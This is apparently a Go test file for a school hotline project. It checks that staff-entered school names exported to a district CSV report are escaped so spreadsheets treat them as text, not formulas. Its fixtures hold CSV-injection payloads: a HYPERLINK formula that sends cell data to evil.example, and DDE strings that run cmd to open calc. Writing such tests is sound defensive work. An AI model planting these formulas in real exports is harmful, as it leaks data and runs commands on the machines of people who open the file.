package district_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"hotline/internal/district"
	"hotline/internal/hotline"
)

func TestSafeCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"第三中学", "第三中学"},
		{"12", "12"},
		{"<5", "<5"},
		{"3.5", "3.5"},
		{"=1+1", "'=1+1"},
		{"+86 10 1234", "'+86 10 1234"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=cmd", "'\t=cmd"},
		{"\r=cmd", "'\r=cmd"},
		{"a=b", "a=b"},
	}
	for _, tt := range tests {
		if got := district.SafeCell(tt.in); got != tt.want {
			t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestReportCSVNeutralisesFormulas: names typed by staff reach the
// district's spreadsheet as text, never as a formula.
func TestReportCSVNeutralisesFormulas(t *testing.T) {
	evil := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"点击")`,
		"+cmd|' /C calc'!A0",
		"-1+1",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
	}
	rep := &district.Report{}
	for i, name := range evil {
		rep.Rows = append(rep.Rows, &district.ReportRow{
			School: &hotline.School{Code: "x" + string(rune('a'+i)), Name: name, District: name},
			Month:  "2026-03",
		})
	}
	var buf bytes.Buffer
	if err := rep.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1+len(evil) {
		t.Fatalf("%d records, want %d", len(recs), 1+len(evil))
	}
	for i, rec := range recs {
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("record %d cell %d starts a formula: %q", i, j, cell)
			}
		}
	}
	// The names are still there, behind the quote.
	for i, name := range evil {
		if got := recs[1+i][2]; got != "'"+name {
			t.Errorf("school cell = %q, want %q", got, "'"+name)
		}
	}
}
